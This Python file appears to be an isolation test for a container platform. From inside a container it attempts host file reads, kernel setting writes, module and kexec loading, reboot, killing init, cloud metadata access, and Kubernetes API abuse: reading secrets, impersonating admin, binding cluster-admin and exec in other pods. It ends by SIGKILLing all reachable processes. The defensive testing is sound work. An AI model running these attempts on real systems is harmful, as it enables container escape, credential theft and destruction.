# ruff: noqa: PLC0415, PTH101, PTH110, PTH112, PTH115, PTH116, PTH123, PTH207, PTH208, SIM115  # as an attacker would
"""What a hostile process tries from inside its container; runs there, with the standard library alone.

Each attempt is a function named ``try_...`` that returns what it gained (text), or nothing when it gained nothing; an
OSError is a refusal. The program prints one JSON object: attempt -> what was gained, or null. What it is told of the
machine (``TARGETS``) it could not find out by itself: a defence must not rest on that.
"""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import ssl
import stat
import struct
import sys
import urllib.error
import urllib.request

TARGETS = json.loads(globals().get("TOLD") or sys.argv[-1])
LIBC = ctypes.CDLL(None, use_errno=True)
ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_REMOUNT, MS_BIND = 32, 4096
SYSCALLS = {
    "x86_64": {"open_by_handle_at": 304, "bpf": 321, "finit_module": 313, "perf_event_open": 298, "kexec_load": 246},
    "aarch64": {"open_by_handle_at": 265, "bpf": 280, "finit_module": 273, "perf_event_open": 241, "kexec_load": 104},
}[os.uname().machine]


def called(result: int) -> int:
    """What a call of the C library gave. Raises OSError."""
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def readable(paths: list[str]) -> str | None:
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            if os.path.isdir(path):
                found.append(f"{path}: {os.listdir(path)}")
            else:
                file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe that says nothing is a gain, too
                with contextlib.suppress(BlockingIOError):
                    found.append(f"{path}: {os.read(file, 16)!r}")
                os.close(file)
    return "; ".join(found) or None


def writable(paths: list[str], content: bytes = b"0") -> str | None:
    found = []
    for path in paths:
        with contextlib.suppress(OSError), open(path, "wb") as file:
            file.write(content)
            file.flush()
            found.append(path)
    return ", ".join(found) or None


# --- the platform's own files -----------------------------------------------------------------------------------------


def try_reading_the_databases():
    return readable([f"{TARGETS['root']}/{name}" for name in ("kube.db", "kube.db-wal", "platform.db")])


def try_reading_keys_and_credentials():
    return readable([f"{TARGETS['root']}/{name}" for name in ("pki", "kubeconfig")])


def try_reading_other_pods_files():
    return readable([f"{TARGETS['root']}/{name}" for name in ("pods", "volumes", "logs", "objects", "")])


def try_the_platforms_sockets():
    for folder, _, files in os.walk(f"{TARGETS['root']}/run"):
        for name in files:
            with socket.socket(socket.AF_UNIX) as way:
                way.connect(f"{folder}/{name}")
                return f"{folder}/{name}"
    return None


def try_the_users_home():
    return readable([TARGETS["home_file"]])


def try_files_of_the_host_by_proc_root():
    return readable([f"/proc/{pid}/root{TARGETS['home_file']}" for pid in os.listdir("/proc") if pid.isdigit()])


def try_climbing_out_of_the_root():
    return readable(["/" + "../" * 20 + TARGETS["home_file"].lstrip("/")])


def try_links_of_open_descriptors():
    outside = []
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            path = os.readlink(link)
            if path.startswith(TARGETS["root"]) and readable([f"{link}/..", link]):
                outside.append(f"{link} -> {path}")
    # A container's own log and volumes may be open in it; what must not be is a way from them to what lies beside.
    beside = [each for each in outside if readable([each.split(" ")[0] + "/../../kube.db"])]
    return "; ".join(beside) or None


def try_writing_programs():
    return writable(["/usr/bin/ketch-was-here", "/usr/lib/ketch-was-here", f"{sys.base_prefix}/bin/ketch-was-here"])


def try_environments_of_the_neighbours():
    found = []
    for entry in sys.path:
        if entry.endswith("site-packages"):
            found += [f"{entry}/{TARGETS['planted']}"]
    writable(found)  # a layer of the container's own may take it: the test looks whether the machine has it


# --- the kernel -------------------------------------------------------------------------------------------------------


def try_having_capabilities():
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    had = {name: status[name] for name in ("CapEff", "CapPrm", "CapInh", "CapAmb") if int(status[name], 16)}
    if int(status["NoNewPrivs"]) != 1:
        had["NoNewPrivs"] = status["NoNewPrivs"]
    return str(had) if had else None


def try_gaining_rights_by_setuid_programs():
    for path in ("/tmp/rights", "/var/tmp/rights"):
        with contextlib.suppress(OSError):
            open(path, "w").close()
            os.chmod(path, 0o6755)
    for program in ("/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/newuidmap"):
        if os.path.exists(program) and os.stat(program).st_mode & stat.S_ISUID:
            read, write = os.pipe()
            child = os.fork()
            if child == 0:
                os.dup2(write, 1)
                os.dup2(write, 2)
                with contextlib.suppress(OSError):
                    os.execv(program, [program, "-c", "cat /proc/self/status"])
                os._exit(1)
            os.close(write)
            said = b""
            while part := os.read(read, 4096):
                said += part
            os.close(read)
            os.waitpid(child, 0)
            if b"CapEff:\t" in said and int(said.split(b"CapEff:\t")[1].split()[0], 16):
                return program
    return None


def try_mounting():
    called(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    return "mounted"


def try_making_the_system_writable():
    called(LIBC.mount(None, b"/usr", None, MS_REMOUNT | MS_BIND, None))
    return writable(["/usr/bin/ketch-was-here"])


def in_a_child(attempt) -> str | None:
    """What ``attempt`` gains in a process of its own."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        with contextlib.suppress(BaseException):
            os.write(write, (attempt() or "").encode()[:4000])
        os._exit(0)
    os.close(write)
    said = b""
    while part := os.read(read, 4096):
        said += part
    os.close(read)
    os.waitpid(child, 0)
    return said.decode() or None


def become_root_of_a_user_namespace(flags: int) -> None:
    user, group = os.getuid(), os.getgid()
    called(LIBC.unshare(CLONE_NEWUSER | flags))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def try_making_the_system_writable_as_root_of_a_namespace():
    def attempt():
        become_root_of_a_user_namespace(CLONE_NEWNS)
        called(LIBC.mount(None, b"/usr", None, MS_REMOUNT | MS_BIND, None))
        return writable(["/usr/bin/ketch-was-here"])

    return in_a_child(attempt)


def try_uncovering_what_is_mounted_over():
    def attempt():
        become_root_of_a_user_namespace(CLONE_NEWNS)
        called(LIBC.umount2(b"/proc/sys", 2))
        return writable(["/proc/sys/kernel/core_pattern"], b"|/bin/false")

    return in_a_child(attempt)


def try_settings_of_the_kernel():
    return writable(["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory"])


def try_sysrq():
    return writable(["/proc/sysrq-trigger"], b"h")


def try_devices_of_the_machine():
    return writable(
        [*glob.glob("/sys/devices/system/cpu/cpu*/online"), "/sys/power/state", "/sys/kernel/uevent_helper"], b"1"
    )


def try_the_kernels_memory():
    return readable(["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"])


def try_making_a_disks_device():
    numbers = [line.split()[:2] for line in open("/proc/partitions").read().splitlines()[2:]]
    for major, minor in numbers:
        os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
        return readable(["/tmp/disk"])
    return None


def try_disks_that_are_there():
    return readable(glob.glob("/dev/[shvx]d*") + glob.glob("/dev/nvme*") + glob.glob("/dev/loop*"))


def try_opening_files_by_handle():
    root = os.open("/", os.O_RDONLY)
    # The root directory of most file systems has inode 2: what a famous escape from containers rested on.
    handle = struct.pack("IiQ", 8, 1, 2)
    return str(called(LIBC.syscall(SYSCALLS["open_by_handle_at"], root, handle, os.O_RDONLY)))


def try_changing_root():
    os.chroot("/tmp")
    return "chroot"


def try_loading_a_module():
    file = os.open("/tmp/module.ko", os.O_CREAT | os.O_RDWR)
    called(LIBC.syscall(SYSCALLS["finit_module"], file, b"", 0))
    return "loaded"


def try_another_kernel():
    called(LIBC.syscall(SYSCALLS["kexec_load"], 0, 0, None, 0))
    return "loaded"


def try_bpf():
    attributes = struct.pack("IIII", 2, 4, 8, 1) + bytes(64)  # an array map of one entry
    return str(called(LIBC.syscall(SYSCALLS["bpf"], 0, attributes, len(attributes))))


def try_watching_the_kernel():
    attributes = struct.pack("IIQ", 0, 112, 0) + bytes(96)  # every process of processor 0
    return str(called(LIBC.syscall(SYSCALLS["perf_event_open"], attributes, -1, 0, -1, 0)))


def try_ending_the_machine():
    called(LIBC.reboot(0x89ABCDEF))
    return "reboot"


def try_the_clock():
    called(LIBC.settimeofday(struct.pack("qq", 1, 0), None))
    return "set"


def try_going_before_others():
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    return "nice"


def try_the_machines_name():
    socket.sethostname("taken")
    return "named"


def try_raising_limits():
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY:
        return None
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
    return "raised"


# --- other processes --------------------------------------------------------------------------------------------------


def try_seeing_processes_of_the_machine():
    seen = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    told = []
    for pid in (pid for pid in seen if pid != "1"):  # one's own init, whose name is no secret
        with contextlib.suppress(OSError):
            line = open(f"/proc/{pid}/cmdline").read()
            if "\0-m\0ketch." in line:
                told.append(line)
    return str(told) if len(seen) > TARGETS["processes"] or told else None


def try_the_rights_of_the_init():
    """To trace one's own init is no gain, unless it may more than oneself."""
    rights = next(line for line in open("/proc/1/status") if line.startswith("CapEff")).split()[1]
    if int(rights, 16):
        with open("/proc/1/mem", "rb") as memory, open("/proc/1/maps") as maps:
            memory.seek(int(maps.readline().split("-")[0], 16))
            return f"{rights}: {memory.read(8)!r}"
    return None


def try_the_init_s_variables():
    with open("/proc/1/environ", "rb") as file:
        return file.read().decode(errors="replace") or None


def try_the_init_s_descriptors():
    """What the init has open, but for the container's own output and places that every container has."""
    own = {os.readlink(f"/proc/self/fd/{number}") for number in (0, 1, 2)}
    found = [path for path in glob.glob("/proc/1/fd/*") if os.readlink(path) not in own]
    return readable([path for path in found if os.readlink(path) not in {"/", "/dev/null"}])


def try_ending_the_init():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    # that this is still running, and its end is told rightly, is the test


def try_namespaces_of_others():
    own = {os.readlink(path) for path in glob.glob("/proc/self/ns/*")}
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        with contextlib.suppress(OSError):
            if os.readlink(path) not in own:
                called(LIBC.setns(os.open(path, os.O_RDONLY), 0))
                return path
    return None


def try_shared_memory_of_the_machine():
    return readable([f"/dev/shm/{TARGETS['shared_memory']}"])


# --- the network ------------------------------------------------------------------------------------------------------


def reached(host: str, port: int) -> str | None:
    with socket.create_connection((host, port), timeout=3):
        return f"{host}:{port}"


def try_the_platforms_loopback():
    return reached("127.0.0.1", TARGETS["port"])


def try_the_machines_loopback_by_the_gateway():
    return reached("10.244.0.1", TARGETS["port"])


def try_the_clouds_metadata():
    return reached("169.254.169.254", 80)


def try_abstract_sockets_of_the_machine():
    with socket.socket(socket.AF_UNIX) as way:
        way.connect(f"\0{TARGETS['abstract']}")
        return "connected"


def try_packets_of_others():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "a raw socket"


def try_another_address():
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        request = struct.pack("16sH2s4s8s", b"eth0", socket.AF_INET, b"\0\0", socket.inet_aton("10.244.0.2"), b"")
        fcntl.ioctl(any_socket, 0x8916, request)
        return "an address"


# --- the API ----------------------------------------------------------------------------------------------------------


def ask(path: str, method: str = "GET", body: dict | None = None, **headers: str) -> str | None:
    """The status of what the API allowed; nothing when it refused."""
    host, port = os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"]
    context = ssl.create_default_context(cafile=f"{ACCOUNT}/ca.crt")
    asked = urllib.request.Request(
        f"https://{host}:{port}{path}", json.dumps(body).encode() if body else None, method=method
    )
    asked.add_header("Authorization", f"Bearer {open(f'{ACCOUNT}/token').read()}")
    asked.add_header("Content-Type", "application/json")
    for name, value in headers.items():
        asked.add_header(name.replace("_", "-"), value)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    try:
        with opener.open(asked, timeout=10) as answer:
            return f"{answer.status} {answer.read(200)!r}"
    except urllib.error.HTTPError as error:
        return None if error.code in {401, 403, 404, 422} else f"{error.code} {error.read(200)!r}"


def try_secrets_of_the_cluster():
    return ask("/api/v1/secrets") or ask("/api/v1/namespaces/kube-system/secrets")


def try_becoming_an_administrator():
    return ask("/api/v1/secrets", Impersonate_User="admin", Impersonate_Group="system:masters")


def try_giving_itself_rights():
    subject = {"kind": "ServiceAccount", "name": "default", "namespace": TARGETS["namespace"]}
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "taken"},
        "roleRef": role,
        "subjects": [subject],
    }
    return ask("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "POST", binding)


def try_making_pods():
    container = {"name": "main", "image": "busybox", "command": ["true"]}
    made = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "made"}, "spec": {"containers": [container]}}
    return ask(f"/api/v1/namespaces/{TARGETS['namespace']}/pods", "POST", made)


def try_commands_in_other_pods():
    name = f"/api/v1/namespaces/{TARGETS['namespace']}/pods/{TARGETS['neighbour']}"
    return ask(f"{name}/log") or ask(f"{name}/exec?command=id&stdout=true", "POST")


def try_tokens_of_others():
    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    return ask("/api/v1/namespaces/kube-system/serviceaccounts/default/token", "POST", body)


def try_the_node_by_the_api():
    return ask(f"/api/v1/nodes/{TARGETS['node']}/proxy/logs/") or ask("/api/v1/nodes")


def try_a_neighbours_secret_volume():
    """What the neighbour mounts lies somewhere on this machine; nothing of it may be seen from here."""
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [each for each in folders if each not in {"proc", "sys", "usr"}]
        if TARGETS["neighbours_file"] in files:
            return folder
    return None


def main() -> None:
    gained = {"parent": str(os.getppid())}
    for name, attempt in list(globals().items()):
        if name.startswith("try_"):
            print(name, file=sys.stderr, flush=True)
            try:
                gained[name] = attempt()
            except (OSError, ValueError):  # a refusal; of limits, Python speaks of a value
                gained[name] = None
            except Exception as error:  # noqa: BLE001  # told as a failure of the attempt itself
                gained[name] = f"not tried: {error!r}"
    print(json.dumps(gained), flush=True)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)  # whoever can be reached


main()
